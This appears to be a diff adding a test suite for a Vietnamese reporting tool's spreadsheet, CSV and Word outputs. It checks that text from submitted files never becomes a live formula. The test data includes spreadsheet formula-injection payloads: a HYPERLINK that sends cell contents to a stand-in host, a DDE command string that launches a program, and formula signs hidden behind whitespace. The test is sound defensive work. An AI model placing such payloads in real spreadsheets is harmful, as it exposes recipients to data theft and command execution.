@@ -1,0 +1,153 @@
+"""Text from submitted files never becomes a formula in what the tool writes: the roll-up workbooks,
+the marked copy, the history's exports (.csv, .xlsx) and the Word report. The texts come from
+hand-made commune files (notes typed as text, as Excel keeps "'=..." typed with an apostrophe) and
+from a district roll-up whose state names its units so (a state is the sender's to write); every
+output is then read back as a program reads it and opened by LibreOffice, which evaluates a CSV
+cell starting with "=" as a formula."""
+
+from __future__ import annotations
+
+import csv
+import json
+import re
+import zipfile
+from pathlib import Path
+
+import pytest
+from openpyxl import load_workbook
+
+from cchc_xl import meta
+from cchc_xl.cli import main
+from cchc_xl.writing.formula_text import starts_like_formula
+from handmade import seed_rows, write_form
+
+# What a spreadsheet could run: a formula sign first, after spaces, after a tab or a carriage return.
+HOSTILE = ['=HYPERLINK("http://x.example/?"&A1,"bấm")', "+SUM(1;2)", "-2+3", "@SUM(1)", "\t=1+1", " =1+1",
+           "\r=1+1", "=cmd|' /C calc'!A0"]
+NOTE_ROWS = ("1.1.", "1.2.", "1.3.", "2.1.", "2.2.", "2.3.", "2.4.", "3.1.")
+# Units of the district roll-up as its state names them.
+UNITS = {"UBND xã Bình Yên": HOSTILE[0], "UBND xã Phú Đình": " =1+1"}
+
+
+def commune(folder: Path, name: str) -> Path:
+    """A commune's file with a hostile note on each of NOTE_ROWS, kept as text the way Excel keeps it."""
+    path = write_form(folder / name, seed_rows("004"), title_lines=(
+        "PHỤ LỤC", "BÁO CÁO CÔNG TÁC CẢI CÁCH HÀNH CHÍNH QUÝ I NĂM 2024",
+        f"(Kèm theo Báo cáo số 25/BC-UBND ngày 14/3/2024 của UBND xã {name})"))
+    book = load_workbook(path)
+    notes = iter(HOSTILE)
+    for row in book.active.iter_rows():
+        if row[0].value and str(row[0].value).strip() in NOTE_ROWS:
+            row[4].value = next(notes)
+            row[4].data_type = "s"
+    book.save(path)
+    return path
+
+
+def renamed_units(rollup: Path, target: Path) -> Path:
+    """The roll-up with its units renamed in its state, as a sender may write it."""
+    book = load_workbook(rollup)
+    sheet = book["_cchc"]
+    entries = meta.decode([[cell.value for cell in row] for row in sheet.iter_rows()])
+    state = json.loads(entries["state"])
+    for unit in state["units"]:
+        unit["unit"] = UNITS[unit["unit"]]
+    entries["state"] = json.dumps(state, ensure_ascii=False)
+    sheet.delete_rows(1, sheet.max_row)
+    for r, line in enumerate(meta.encode(entries), start=1):
+        for c, value in enumerate(line, start=1):
+            sheet.cell(r, c).value = value
+            sheet.cell(r, c).data_type = "s"
+    book.save(target)
+    return target
+
+
+@pytest.fixture(scope="module")
+def outputs(tmp_path_factory):
+    """Every kind of output written from the hostile texts: name -> path."""
+    pytest.importorskip("pandas")
+    root = tmp_path_factory.mktemp("doc-hai")
+    (root / "xa").mkdir()
+    (root / "huyen").mkdir()
+    for name in ("Bình Yên", "Phú Đình"):
+        commune(root / "xa", name)
+    written = {"tong-hop-huyen.xlsx": root / "tong-hop-huyen.xlsx", "tong-hop-tinh.xlsx": root / "tong-hop-tinh.xlsx",
+               "danh-dau.xlsx": root / "danh-dau.xlsx", "xuat.xlsx": root / "xuat.xlsx",
+               "xuat.csv": root / "xuat.csv", "xuat-rong.csv": root / "xuat-rong.csv", "bao-cao.docx": root / "bao-cao.docx"}
+    assert main(["merge", str(root / "xa"), "-o", str(written["tong-hop-huyen.xlsx"]), "--no-history",
+                 "--unit", "UBND huyện Định Hóa"]) == 0
+    renamed_units(written["tong-hop-huyen.xlsx"], root / "huyen" / "dinh-hoa.xlsx")
+    history = root / "lich-su.sqlite"
+    assert main(["merge", str(root / "huyen"), "-o", str(written["tong-hop-tinh.xlsx"]), "--history", str(history),
+                 "--unit", "UBND tỉnh Thái Nguyên"]) == 0
+    assert main(["check", str(root / "xa" / "Bình Yên.xlsx"), "-o", str(written["danh-dau.xlsx"])]) == 0
+    assert main(["export", "--history", str(history), "-o", str(written["xuat.xlsx"])]) == 0
+    assert main(["export", "--history", str(history), "-o", str(written["xuat.csv"])]) == 0
+    assert main(["export", "--history", str(history), "-o", str(written["xuat-rong.csv"]), "--wide"]) == 0
+    assert main(["report", str(written["tong-hop-tinh.xlsx"]), "-o", str(written["bao-cao.docx"])]) == 0
+    return written
+
+
+def workbook_texts(path: Path) -> list[tuple[str, str, object, str]]:
+    """(sheet, cell, value, openpyxl's data type) of every cell of `path`."""
+    book = load_workbook(path)
+    return [(sheet.title, cell.coordinate, cell.value, cell.data_type)
+            for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]
+
+
+@pytest.mark.parametrize("name", ["tong-hop-huyen.xlsx", "tong-hop-tinh.xlsx", "danh-dau.xlsx", "xuat.xlsx"])
+def test_hostile_texts_are_text_cells_of_every_workbook(outputs, name):
+    cells = workbook_texts(outputs[name])
+    with zipfile.ZipFile(outputs[name]) as package:
+        sheets = b"".join(package.read(part) for part in package.namelist() if part.startswith("xl/worksheets/"))
+    assert b"<f>" not in sheets and b"<f " not in sheets  # no formula anywhere
+    hostile = [(sheet, ref, value) for sheet, ref, value, kind in cells if isinstance(value, str) and kind == "s"
+               and any(text.strip() in value for text in HOSTILE)]
+    assert hostile, name  # the texts are there, as text
+    expected = {"tong-hop-huyen.xlsx": {"Ghi chú đơn vị"}, "danh-dau.xlsx": {"Sheet1"},
+                "tong-hop-tinh.xlsx": {"Chi tiết", "Tình hình nộp", "Biểu đồ", "Ghi chú đơn vị"}, "xuat.xlsx": {"Dạng dài", "Dạng rộng"}}
+    assert expected[name] <= {sheet for sheet, _, _ in hostile}, name
+    assert all(kind != "f" for *_, kind in cells)
+
+
+@pytest.mark.parametrize("name", ["xuat.csv", "xuat-rong.csv"])
+def test_a_csv_cell_that_starts_like_a_formula_starts_with_an_apostrophe(outputs, name):
+    with open(outputs[name], encoding="utf-8-sig", newline="") as text:
+        lines = list(csv.reader(text))
+    cells = [cell for line in lines[1:] for cell in line]
+    units = {line[lines[0].index("don_vi")] for line in lines[1:]}
+    assert units == {"'" + unit for unit in UNITS.values()}
+    assert not [cell for cell in cells if starts_like_formula(cell) and not number(cell)]
+
+
+def number(text: str) -> bool:
+    try:
+        float(text)
+    except ValueError:
+        return False
+    return True
+
+
+def test_the_word_report_holds_the_unit_names_as_text_and_no_field(outputs):
+    with zipfile.ZipFile(outputs["bao-cao.docx"]) as package:
+        document = package.read("word/document.xml").decode("utf-8")
+    assert not re.search(r"<w:(fldSimple|instrText|fldChar)\b", document)
+    assert "=HYPERLINK(&quot;http://x.example/?&quot;&amp;A1,&quot;bấm&quot;)" in document \
+        or '=HYPERLINK("http://x.example/?"&amp;A1,"bấm")' in document
+
+
+@pytest.mark.libreoffice
+def test_libreoffice_opens_every_output_without_a_formula(outputs, tmp_path):
+    """LibreOffice evaluates "=1+1" in a CSV it opens; none of these gives it a formula."""
+    from lo import convert_many
+
+    names = ["tong-hop-tinh.xlsx", "danh-dau.xlsx", "xuat.xlsx", "xuat.csv", "xuat-rong.csv"]
+    sources = []
+    for name in names:  # one stem each: the converted files are named after their sources
+        copy = tmp_path / "in" / f"{Path(name).stem}-{Path(name).suffix[1:]}{Path(name).suffix}"
+        copy.parent.mkdir(exist_ok=True)
+        copy.write_bytes(outputs[name].read_bytes())
+        sources.append(copy)
+    for source, opened in zip(sources, convert_many(sources, "xlsx", tmp_path / "out")):
+        cells = workbook_texts(opened)
+        assert cells and all(kind != "f" for *_, kind in cells), source.name
